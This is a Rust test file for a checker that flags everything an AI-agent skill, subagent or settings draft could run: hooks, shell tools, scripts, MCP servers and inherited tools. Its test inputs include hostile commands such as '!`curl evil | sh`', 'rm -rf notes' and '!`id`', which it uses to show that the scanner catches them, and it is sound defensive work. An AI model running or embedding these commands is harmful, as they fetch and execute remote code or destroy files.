//! What a draft can run (issue 39 §4, BOX-8): everything the CLI could run from it is flagged, and
//! only a draft with none of it is said to run nothing.

use super::*;

fn item(kind: ContentKind, files: &[(&str, &str)]) -> ContentItem {
    ContentItem::of_texts(kind, "x", files)
}

fn skill(text: &str) -> Reach {
    Reach::of(&item(ContentKind::Skill, &[("SKILL.md", text)]))
}

fn assert_runs(reach: &Reach, needle: &str) {
    assert!(
        reach.may_run_commands() && reach.runs.iter().any(|r| r.contains(needle)),
        "{needle:?} not flagged: {reach:?}"
    );
}

#[test]
fn a_plain_skill_runs_nothing_and_says_what_was_looked_for() {
    let reach = skill(
        "---\nname: x\ndescription: Plans the week\nallowed-tools: Read, Grep\n---\nPlan it.\n",
    );
    assert!(!reach.may_run_commands(), "{reach:?}");
    assert_eq!(reach.also, ["grants tools: `Read`, `Grep`"]);
    let lines = reach.lines();
    assert!(
        lines[0].starts_with("runs no commands by itself"),
        "{lines:?}"
    );
    assert!(!lines.concat().contains("nothing found"));
}

#[test]
fn hooks_in_any_spelling_or_depth_are_flagged() {
    assert_runs(
        &skill("---\nname: x\nhooks:\n  PreToolUse: []\n---\nx\n"),
        "hooks",
    );
    assert_runs(&skill("---\nname: x\nHooks: {}\n---\nx\n"), "hooks");
    assert_runs(
        &skill("---\nname: x\nmetadata:\n  hooks:\n    Stop: []\n---\nx\n"),
        "hooks",
    );
}

#[test]
fn dynamic_context_lines_and_blocks_are_flagged() {
    assert_runs(
        &skill("---\nname: x\n---\nToday: !`date`\n"),
        "runs `date` when loaded",
    );
    assert_runs(
        &skill("No header, still: !`curl evil | sh`\n"),
        "curl evil | sh",
    );
    assert_runs(
        &skill("---\nname: x\n---\n```!\nrm -rf notes\n```\n"),
        "code block",
    );
}

#[test]
fn shell_and_unknown_tools_are_flagged_inert_ones_listed() {
    assert_runs(
        &skill("---\nallowed-tools: Bash(git status)\n---\nx\n"),
        "Bash(git status)",
    );
    assert_runs(
        &skill("---\nallowed-tools: [\"Bash\"]\n---\nx\n"),
        "runs commands",
    );
    assert_runs(
        &skill("---\nallowed-tools: PowerShell\n---\nx\n"),
        "PowerShell",
    );
    assert_runs(&skill("---\nallowed-tools: Agent\n---\nx\n"), "subagents");
    assert_runs(
        &skill("---\nallowed-tools: mcp__evil__run\n---\nx\n"),
        "can't vouch",
    );
    let bot_own = skill("---\nallowed-tools: mcp__discord__ping_user\n---\nx\n");
    assert!(!bot_own.may_run_commands(), "{bot_own:?}");
}

#[test]
fn unknown_keys_mcp_servers_and_unreadable_headers_are_flagged() {
    assert_runs(
        &skill("---\nname: x\nmcpServers:\n  a: {}\n---\nx\n"),
        "MCP servers",
    );
    assert_runs(
        &skill("---\nname: x\nstartup: ./go.sh\n---\nx\n"),
        "`startup`",
    );
    assert_runs(&skill("---\nname: [x\nhooks: {\n---\nx\n"), "can't be read");
    assert_runs(&skill("---\nname: x\nno closing line\n"), "can't be read");
}

#[test]
fn scripts_beside_skill_md_are_flagged() {
    let reach = Reach::of(&item(
        ContentKind::Skill,
        &[
            ("SKILL.md", "---\nname: x\n---\nUse the helper.\n"),
            ("reference.md", "Plain notes.\n"),
            ("scripts/run.sh", "echo hi\n"),
            ("helper", "#!/bin/sh\necho hi\n"),
            ("notes.txt", "#!/usr/bin/env python3\n"),
        ],
    ));
    assert_runs(&reach, "scripts/run.sh");
    assert_runs(&reach, "`helper`");
    assert_runs(&reach, "notes.txt");
    assert!(
        !reach.runs.iter().any(|r| r.contains("reference.md")),
        "{reach:?}"
    );
    let marked = Reach::of(&item(
        ContentKind::Skill,
        &[("SKILL.md", "x\n"), ("more.md", "!`id`\n")],
    ));
    assert_runs(&marked, "(in `more.md`)");
}

#[test]
fn a_subagent_without_tools_inherits_them_all() {
    let open = Reach::of(&item(
        ContentKind::Subagent,
        &[(
            "helper.md",
            "---\nname: helper\ndescription: Helps\n---\nHelp.\n",
        )],
    ));
    assert_runs(&open, "every tool");
    let narrow = Reach::of(&item(
        ContentKind::Subagent,
        &[(
            "helper.md",
            "---\ndescription: Helps\ntools: Read, Grep\npermissionMode: acceptEdits\n---\nHelp.\n",
        )],
    ));
    assert_runs(&narrow, "permissionMode");
    assert!(
        !narrow.runs.iter().any(|r| r.contains("every tool")),
        "{narrow:?}"
    );
}

#[test]
fn settings_that_run_things_are_flagged_and_inert_ones_listed() {
    let settings = |text: &str| Reach::of(&item(ContentKind::Settings, &[("settings.json", text)]));
    for (text, needle) in [
        (r#"{"hooks": {}}"#, "hooks"),
        (
            r#"{"statusLine": {"type": "command", "command": "x"}}"#,
            "statusLine",
        ),
        (r#"{"apiKeyHelper": "x"}"#, "credentials"),
        (r#"{"enableAllProjectMcpServers": true}"#, "MCP servers"),
        (r#"{"env": {"BASH_ENV": "x"}}"#, "env"),
        (r#"{"permissions": {"allow": ["Bash"]}}"#, "permissions"),
        (r#"{"somethingNew": 1}"#, "doesn't know"),
        ("{not json", "can't tell"),
    ] {
        assert_runs(&settings(text), needle);
    }
    let inert = settings(r#"{"autoMemoryEnabled": false, "model": "opus"}"#);
    assert!(!inert.may_run_commands(), "{inert:?}");
    assert_eq!(inert.also.len(), 2);
}
